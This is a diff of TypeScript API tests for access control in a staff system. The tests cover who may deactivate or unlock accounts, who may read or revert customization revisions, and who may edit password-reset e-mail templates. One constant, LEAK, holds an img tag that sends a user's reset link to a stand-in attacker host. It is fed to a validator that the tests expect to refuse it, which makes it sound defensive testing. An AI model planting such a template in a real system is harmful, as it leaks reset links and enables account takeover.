@@ -70,6 +70,23 @@ describe('somebody who changes users, and manages no roles', () => {
     expect((await clerk.call('PATCH', `/users/${clerk.userId}`, email())).status).toBe(200);
   });
 
+  test('keeps nobody out who holds a grant, and lets no such account be guessed at again', async () => {
+    const clerk = await memberWith(api, { matrix: { users: USERS } });
+    const shaper = await memberWith(api, { grants: ['customization', 'roles'] });
+    const other = await memberWith(api, { matrix: { leads: ['view'] } });
+    const doAll = async (who: StaffClient) => [
+      await clerk.call('POST', `/users/${who.userId}/unlock`),
+      await clerk.call('POST', `/users/${who.userId}/sign-out`),
+      await clerk.call('POST', `/users/${who.userId}/deactivate`),
+      await clerk.call('PATCH', `/users/${who.userId}`, { body: { active: false } }),
+    ];
+    expect((await doAll(shaper)).map(refusal)).toEqual(Array(4).fill(REFUSED));
+    expect((await doAll(other)).map(({ status }) => status)).toEqual([200, 200, 200, 200]);
+    await admin.call('POST', `/users/${shaper.userId}/deactivate`);
+    const again = await clerk.call('PATCH', `/users/${shaper.userId}`, { body: { active: true } });
+    expect(refusal(again)).toEqual(REFUSED);
+  });
+
   test('puts others into a team, not themselves', async () => {
     const clerk = await memberWith(api, { matrix: { users: USERS } });
     const other = await memberWith(api, {});
@@ -111,6 +128,45 @@ describe('somebody who customizes, and has no other right', () => {
     ],
   };
   const DENIED = expect.arrayContaining([expect.objectContaining({ code: 'permission_denied' })]);
+
+  test('neither reads nor deletes what others keep for themselves', async () => {
+    const owner = await memberWith(api, { matrix: { leads: ['view'] } });
+    const shaper = await memberWith(api, { grants: ['customization'] });
+    const filter = { and: [{ field: 'email', op: 'eq', value: 'whistle@example.com' }] };
+    const view = { object: 'lead', name: `Mine ${newId()}`, filter };
+    const { id } = await made(owner, '/views', view);
+    const open = { object: 'lead', name: `Ours ${newId()}`, visibility: 'public' };
+    const { id: ours } = await made(owner, '/views', open);
+    const revisionOf = async (by: StaffClient, subjectId: unknown) => {
+      const is = encodeURIComponent(
+        JSON.stringify({ field: 'subjectId', op: 'eq', value: subjectId }),
+      );
+      const list = await done(by, 'GET', `/customization/revisions?filter=${is}&sort=madeAt`);
+      return (list as unknown as { data: { id: string }[] }).data.map((each) => each.id);
+    };
+    const keeper = await memberWith(api, {
+      matrix: { leads: ['view'] },
+      grants: ['customization'],
+    });
+    const kept = await made(keeper, '/views', { object: 'lead', name: `Kept ${newId()}`, filter });
+    const [revision = ''] = await revisionOf(keeper, kept['id']);
+    expect(await revisionOf(shaper, kept['id'])).toEqual([]);
+    expect(await revisionOf(shaper, id)).toEqual([]);
+    const path = `/customization/revisions/${revision}`;
+    expect((await keeper.call('GET', path)).status).toBe(200);
+    expect((await shaper.call('GET', path)).status).toBe(404);
+    expect((await shaper.call('POST', `${path}/revert`)).status).toBe(404);
+    const [first = ''] = await revisionOf(shaper, ours);
+    const hide = { body: { visibility: 'private', filter } };
+    expect((await owner.call('PATCH', `/views/${String(ours)}`, hide)).status).toBe(200);
+    const back = await shaper.call('POST', `/customization/revisions/${first}/revert`);
+    expect(refusal(back)).toEqual([409, 'revision_not_revertible']);
+    expect(JSON.stringify(back.body)).not.toContain('whistle');
+    const health = await shaper.call('GET', '/customization/view-health');
+    const seen = JSON.stringify(health.body);
+    for (const each of [id, kept['id'], ours]) expect(seen).not.toContain(String(each));
+    expect((await owner.call('GET', `/views/${String(id)}`)).status).toBe(200);
+  });
 
   test('brings none in with a set-up', async () => {
     const shaper = await memberWith(api, { grants: ['customization'] });
@@ -154,5 +210,47 @@ describe('somebody who customizes, and has no other right', () => {
       false,
     ]);
     expect(JSON.stringify(whole?.body)).toContain('Classified');
+  });
+});
+
+describe('somebody who writes the texts of e-mails', () => {
+  const SECRET = ['USER_PASSWORD_RESET', 'USER_INVITED'];
+  const LEAK = '<img src="https://evil.example/p?u={{ link | url_encode }}">';
+  const texts = (html: string) => ({ subject: 'Hello', html, text: 'Hello' });
+
+  test('does not say where the link goes that sets a password of somebody else', async () => {
+    const writer = await memberWith(api, {
+      matrix: { 'email-templates': ['view', 'update'] },
+      grants: ['customization'],
+    });
+    for (const code of SECRET) {
+      const path = `/email-templates/${code}`;
+      const body = texts('<a href="{{ link }}">Set it</a>');
+      expect(refusal(await writer.call('PUT', path, { body }))).toEqual(REFUSED);
+      expect((await admin.call('PUT', path, { body })).status).toBe(200);
+      expect((await writer.call('POST', `${path}/reset`)).status).toBe(200);
+    }
+    const { format, version } = await done(admin, 'GET', '/customization/export');
+    const item = { ...texts('<b>Hello</b>'), language: null, active: true };
+    const emailTemplates = SECRET.map((code) => ({ code, ...item }));
+    const body = { format, version, parts: { emailTemplates } };
+    const brought = await writer.call('POST', '/customization/import', { body });
+    const errors = bodyOf<{ errors: { code: string }[] }>(brought).errors.map(({ code }) => code);
+    expect([brought.status, errors]).toEqual([409, SECRET.map(() => 'administrator_required')]);
+    const other = await writer.call('PUT', '/email-templates/INVOICE_SENT', { body: texts('x') });
+    expect(other.status).toBe(200);
+  });
+
+  test('puts it nowhere but in an anchor or between words, administrators included', async () => {
+    for (const code of SECRET) {
+      const path = `/email-templates/${code}`;
+      const asked = [
+        await admin.call('PUT', path, { body: texts(LEAK) }),
+        await admin.call('POST', `${path}/preview`, { body: texts(LEAK) }),
+      ];
+      for (const { status, body } of asked) {
+        expect([status, body]).toMatchObject([422, { errors: [{ code: 'secret_link' }] }]);
+      }
+    }
   });
 });
